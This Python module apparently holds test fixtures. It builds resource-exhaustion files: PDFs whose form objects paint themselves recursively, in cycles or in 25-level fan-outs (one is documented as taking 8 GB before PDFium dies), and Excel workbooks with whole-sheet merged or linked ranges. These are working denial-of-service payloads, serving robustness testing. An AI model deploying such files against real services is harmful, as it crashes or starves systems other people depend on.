"""Small files that take any memory there is, where a library reads them unguarded."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Iterable, Mapping, Sequence
from itertools import pairwise

from openpyxl import Workbook

WHOLE_SHEET = "A1:XFD1048576"
_FIXED = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources %s>>"
_FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 300 300]"


def stream(entries: bytes, content: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(content), content)


def pdf(objects: Sequence[bytes]) -> bytes:
    """A PDF file of some objects, numbered from 1, of which the first is the catalog."""
    data, places = b"%PDF-1.4\n", []
    for number, entry in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, entry)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(places) + 1
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (size, len(data))
    return data + b"xref\n0 %d\n0000000000 65535 f \n%s%s" % (size, table, end)


def packed_pdf(objects: Sequence[bytes]) -> bytes:
    """The same file with its objects in a compressed stream, and another one for their places."""
    loose = {n: entry for n, entry in enumerate(objects, 1) if entry.endswith(b"endstream")}
    packed = {n: entry for n, entry in enumerate(objects, 1) if n not in loose}
    holder, table = len(objects) + 1, len(objects) + 2
    head, body = b"", b""
    for number, entry in packed.items():
        head += b"%d %d " % (number, len(body))
        body += entry + b" "
    entries = b"/Type/ObjStm/N %d/First %d/Filter/FlateDecode" % (len(packed), len(head))
    loose[holder] = stream(entries, zlib.compress(head + body))
    data, rows = b"%PDF-1.5\n", {0: (0, 0, 65535)}
    for number, entry in loose.items():
        rows[number] = (1, len(data), 0)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, entry)
    rows |= {number: (2, holder, place) for place, number in enumerate(packed)}
    rows[table] = (1, len(data), 0)
    listed = (rows[number] for number in sorted(rows))
    fields = b"".join(
        kind.to_bytes(1, "big") + at.to_bytes(4, "big") + more.to_bytes(2, "big")
        for kind, at, more in listed
    )
    entries = b"/Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Filter/FlateDecode" % (table + 1)
    end = stream(entries, zlib.compress(fields))
    return data + b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (table, end, len(data))


def forms(
    page: bytes, drawn: Mapping[str, tuple[bytes, Sequence[str]]], entries: bytes = b""
) -> list[bytes]:
    """Objects of a page and its forms.

    Args:
        page: The page's content, which may paint all of the forms.
        drawn: Content of each form, and the names of those that it may paint.
        entries: More entries of each form.
    """
    numbers = {name: number for number, name in enumerate(drawn, 5)}

    def resources(names: Iterable[str]) -> bytes:
        listed = "".join(f"/{name} {numbers[name]} 0 R" for name in names)
        return f"<</Font<</T {5 + len(drawn)} 0 R>>/XObject<<{listed}>>>>".encode()

    made = [
        stream(_FORM + entries + b"/Resources " + resources(names), content)
        for content, names in drawn.values()
    ]
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    return [*_FIXED, _PAGE % resources(drawn), stream(b"", page), *made, font]


def self_painting() -> list[bytes]:
    """A form that paints itself twice: 8 GB, then PDFium ends the process."""
    return forms(b"/A Do", {"A": (b"/A Do /A Do", "A")})


def circle() -> list[bytes]:
    return forms(b"/A Do", {"A": (b"/B Do /B Do", "B"), "B": (b"/C Do", "C"), "C": (b"/A Do", "A")})


def fan_out(levels: int = 25, times: int = 2) -> list[bytes]:
    """Forms that each paint the next one several times."""
    names = [f"F{level}" for level in range(levels)]
    drawn = {name: (f"/{inner} Do ".encode() * times, [inner]) for name, inner in pairwise(names)}
    return forms(b"/F0 Do", drawn | {names[-1]: (b"0 0 m 9 9 l S", [])})


def merged(ranges: Sequence[str], element: str = "mergeCell") -> bytes:
    """A workbook with ranges that are merged or, with "hyperlink", linked."""
    book, plain, made = Workbook(), io.BytesIO(), io.BytesIO()
    sheet = book.worksheets[0]
    sheet.append(["Net sales", 5])
    book.save(plain)
    listed = "".join(f'<{element} ref="{cells}"/>' for cells in ranges)
    xml = f"</sheetData><{element}s>{listed}</{element}s>".encode()
    with (
        zipfile.ZipFile(plain) as package,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for name in package.namelist():
            bomb.writestr(name, package.read(name).replace(b"</sheetData>", xml))
    return made.getvalue()
